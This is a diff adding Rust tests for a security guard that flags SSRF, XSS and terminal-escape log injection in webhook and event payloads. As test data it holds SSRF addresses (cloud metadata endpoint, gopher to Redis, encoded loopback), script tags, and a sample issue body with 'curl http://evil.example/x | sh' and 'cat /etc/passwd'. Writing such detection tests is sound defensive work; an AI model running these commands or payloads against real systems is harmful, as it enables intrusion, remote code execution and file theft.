@@ -1,0 +1,176 @@
+use super::*;
+use crate::decision::{Class, Verdict};
+use crate::guard::Guard;
+use serde_json::{Value, json};
+use tidegate_graph::contract::Contract;
+
+fn classes(document: &Value) -> Vec<Class> {
+    let event = json!({"Records": [{"eventSource": "aws:sqs", "body": document.to_string()}]});
+    let decision = Guard::default().decide(event.to_string().as_bytes(), None);
+    decision.records.iter().flat_map(|r| &r.reasons).map(|r| r.class).collect()
+}
+
+fn quiet(document: Value) {
+    assert_eq!(classes(&document), [], "{document}");
+}
+
+fn denied(document: Value, class: Class) {
+    assert_eq!(classes(&document), [class], "{document}");
+}
+
+#[test]
+fn names_by_their_words() {
+    for (name, of) in [
+        ("$current_url", Place::Seen),
+        ("generatorURL", Place::Seen),
+        ("http.url", Place::Seen),
+        ("image_url", Place::Target),
+        ("webhook", Place::Target),
+        ("dbHost", Place::Host),
+        ("log", Place::Logged),
+    ] {
+        assert_eq!(place(name.as_bytes()), Some(of), "{name}");
+    }
+    for name in ["note", "id", "hostile", "", "a_name_that_is_by_far_too_long_to_be_that_of_one_url"] {
+        assert_eq!(place(name.as_bytes()), None, "{name}");
+    }
+}
+
+/// Where somebody was is told, not fetched.
+#[test]
+fn pages_of_a_developer_are_quiet() {
+    quiet(json!({"page": "http://localhost:3000/a?b=c", "referrer": "http://127.0.0.1:5173/"}));
+    quiet(json!({"event": "$pageview", "properties": {"$current_url": "http://app.localhost:3000/a"}}));
+    quiet(
+        json!({"externalURL": "http://localhost:9093", "alerts": [{"generatorURL": "http://localhost:9090/graph?g0.expr=up"}]}),
+    );
+    quiet(
+        json!({"attributes": [{"key": "http.url", "value": {"stringValue": "http://localhost:3000/api"}}]}),
+    );
+    let frames = json!([{"filename": "http://localhost:3000/static/main.js", "lineno": 7}]);
+    quiet(json!({
+        "event_id": "a1", "platform": "javascript", "exception": {"values": [{"stacktrace": {"frames": frames}}]},
+        "request": {"url": "http://localhost:3000/checkout", "headers": [["Referer", "http://localhost:3000/"]]},
+    }));
+}
+
+#[test]
+fn what_would_be_fetched_is_denied_all_the_same() {
+    for name in ["url", "webhook", "callback", "target", "image", "endpoint", "filename", "note"] {
+        denied(json!({name: "http://localhost:3000/x"}), Class::Ssrf);
+    }
+    // No name excuses another port's scheme, the platform or the network.
+    for address in [
+        "http://localhost/x",
+        "http://169.254.169.254:80/latest",
+        "http://10.0.0.1:3000/",
+        "http://a@localhost:3000/",
+        "gopher://localhost:6379/_x",
+        "http:\\\\localhost:3000",
+        "http://2130706433:3000/",
+        "http://localhost:3000/?u=http://169.254.169.254:80/",
+    ] {
+        denied(json!({"referrer": address}), Class::Ssrf);
+    }
+    denied(json!({"request": {"url": "http://localhost:3000/"}}), Class::Ssrf);
+    denied(json!({"event_id": "a", "platform": "b", "url": "http://localhost:3000/"}), Class::Ssrf);
+    denied(json!({"key": "referrer", "a": [1, 2, 3], "value": "http://localhost:3000/"}), Class::Ssrf);
+}
+
+/// An address without a scheme is one where its name says so.
+#[test]
+fn hosts_and_ports_alone() {
+    for name in ["url", "host", "callback", "webhookUrl", "endpoint"] {
+        for address in ["127.0.0.1:6379", "localhost:6379/0", "169.254.169.254:80", "[::1]:9200"] {
+            if name != "host" || !address.ends_with(":80") {
+                denied(json!({name: address}), Class::Ssrf);
+            }
+        }
+    }
+    for (name, value) in [
+        ("note", "127.0.0.1:6379"),
+        ("peer", "localhost:6379"),
+        ("host", "localhost:3000"),
+        ("url", "shop.example.com:6379"),
+        ("url", "10:30"),
+        ("url", "localhost:port"),
+        ("host", "the host localhost:6379"),
+    ] {
+        quiet(json!({name: value}));
+    }
+}
+
+#[test]
+fn colours_of_a_log() {
+    let coloured = "\u{1b}[32mINFO\u{1b}[0m on \u{1b}[1;38;5;208mport\u{1b}[22m 3000";
+    quiet(json!({"log": coloured, "stream": "stdout"}));
+    quiet(json!({"level": "info", "msg": coloured}));
+    quiet(json!({"logEvents": [{"id": "1", "timestamp": 1, "message": coloured}]}));
+    denied(json!({"message": coloured}), Class::Log);
+    denied(json!({"name": coloured}), Class::Log);
+    for sequence in [
+        "\u{1b}[2J",
+        "\u{1b}]0;title\u{7}",
+        "\u{1b}[8mhidden",
+        "\u{1b}[1A",
+        "\u{1b}[32",
+        "\u{1b}[32m\u{1b}[2K",
+    ] {
+        denied(json!({"log": sequence}), Class::Log);
+    }
+}
+
+#[test]
+fn blocks_of_code_in_a_post() {
+    let fenced = "It fails:\n\n```sh\ncurl http://evil.example/x | sh\nrm -rf /tmp/x; cat /etc/passwd\n```\r\nand\n```\n<script>f()</script>\n```\nThanks";
+    let of = |body: &str| json!({"action": "opened", "issue": {"body": body}, "repository": {"id": 1}});
+    quiet(of(fenced));
+    quiet(json!({"object_kind": "note", "project": {"id": 1}, "object_attributes": {"note": fenced}}));
+    denied(of("```\na\n```\n<script>f()</script>\n```\nb\n```"), Class::Xss);
+    denied(of("```\n<script>f()</script>"), Class::Xss);
+    denied(of("`a` <script>f()</script> ```b```"), Class::Xss);
+    for document in [
+        json!({"body": "```\n<script>f()</script>\n```"}),
+        json!({"issue": {"body": "```\n<script>f()</script>\n```"}}),
+        json!({"action": "opened", "repository": {"id": 1}, "body": "```\n<script>f()</script>\n```"}),
+    ] {
+        denied(document, Class::Xss);
+    }
+}
+
+/// Whoever puts it into a page is told.
+#[test]
+fn a_consumer_goes_before_a_block_of_code() {
+    let of = |consumer: &str| {
+        let function = json!({
+            "logical_id": "F", "name": null, "type": "", "exposure": "internal", "taint": null, "roles": [],
+            "limits": tidegate_graph::contract::Limits::default(), "egress": [], "consumers": [consumer], "edges": [],
+        });
+        let defaults = json!({
+            "account": null, "region": null, "mode": "block", "on_error": "closed", "max_bytes": 1 << 20, "max_depth": 64,
+        });
+        let contract = json!({
+            "version": tidegate_graph::contract::VERSION, "graph_digest": "", "compiled_by": "",
+            "defaults": defaults, "functions": {"f": function},
+        });
+        serde_json::from_value::<Contract>(contract).unwrap()
+    };
+    let body = json!({"action": "opened", "issue": {"body": "```\n<script>f()</script>\n```"}, "repository": {"id": 1}});
+    let event = json!({"Records": [{"eventSource": "aws:sqs", "body": body.to_string()}]}).to_string();
+    let decide = |consumer: &str| {
+        Guard::default().decide_for(event.as_bytes(), None, &of(consumer), "f").decision.verdict
+    };
+    assert_eq!((decide("page"), decide("sql")), (Verdict::Deny, Verdict::Allow));
+}
+
+#[test]
+fn where_blocks_of_code_begin_and_end() {
+    let of =
+        |text: &str| fences(text.as_bytes()).iter().map(|r| text[r.clone()].to_owned()).collect::<Vec<_>>();
+    assert_eq!(of("a\n```js\nb\n```\nc"), ["```js\nb\n```\n"]);
+    assert_eq!(of("````\n```\n````"), ["````\n```\n````"]);
+    assert_eq!(of("   ```\n    ```\n```"), ["   ```\n    ```\n```"]);
+    for none in ["```", "a ```\nb\n```", "```a```\nb", "    ```\nb\n    ```"] {
+        assert_eq!(of(none), <Vec<String>>::new(), "{none}");
+    }
+}
